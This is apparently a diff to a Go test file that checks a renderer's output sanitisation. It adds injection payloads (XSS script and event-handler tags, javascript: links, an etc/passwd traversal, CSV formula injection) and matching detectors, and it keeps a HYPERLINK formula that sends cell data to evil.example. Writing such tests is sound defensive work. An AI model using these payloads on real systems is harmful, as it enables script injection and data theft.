@@ -47,7 +47,11 @@ var attacks = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
 	"{{define \"base\"}}<x-evil>{{end}}{{evil}}",
 	"x\nContact: mailto:evil@evil.example\n---\n<x-evil>",
-	"[x](javascript:evil()) ![x](https://evil.example/p.png) <javascript:evil()> <x-evil onclick=evil()>",
+	"[x](javascript:evil()) ![x](https://evil.example/p.png) <javascript:evil()> [x](../../../../etc/passwd) <x-evil onclick=evil()>",
+	`https://evil.example/"><x-evil data-evil='1' onmouseover='evil()'><script>evil()</script>`,
+	`evil@evil.example"><x-evil data-evil='1'>`,
+	"x;=HYPERLINK(\"http://evil.example\";\"x\")\n=1+1",
+	"\x00\x01\x0b\x1b[2J\x7f\u009b\ufffe\uffff<x-evil>",
 	"\u202e\u2028</x-evil>\u2029<x-evil>\ufeff",
 }
 
@@ -263,6 +267,8 @@ func guiltyTag(tag html.Token) string {
 			return "attribute " + a.Key
 		case loads[where] && (scheme.MatchString(a.Val) || strings.HasPrefix(a.Val, "//")):
 			return "loaded from elsewhere: " + a.Val
+		case (a.Key == "href" || loads[where]) && strings.Contains(a.Val, "etc/passwd"):
+			return "a way out of the site: " + a.Val
 		case a.Key == "href" || loads[where]:
 			if m := scheme.FindStringSubmatch(a.Val); m != nil && !slices.Contains([]string{"http", "https", "mailto", "tel"}, strings.ToLower(m[1])) {
 				return "scheme " + m[1]
@@ -284,11 +290,23 @@ func guiltyXML(text []byte) string {
 		}
 		if e, ok := token.(xml.StartElement); ok && (e.Name.Local == "x-evil" || e.Name.Local == "script") {
 			return "element " + e.Name.Local
+		} else if ok {
+			for _, a := range e.Attr {
+				if m := scheme.FindStringSubmatch(a.Value); m != nil && a.Name.Local == "href" && m[1] != "http" && m[1] != "https" {
+					return "scheme " + m[1]
+				}
+			}
 		}
 	}
 }
 
+// formulas begin behind any sign at which some program parts cells.
+var formulas = regexp.MustCompile(`(?m)(^|[;\t])"*[=+@-]`)
+
 func guiltyCSV(text []byte) string {
+	if m := formulas.Find(text); m != nil {
+		return "formula behind " + string(m)
+	}
 	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
 	if err != nil {
 		return err.Error()
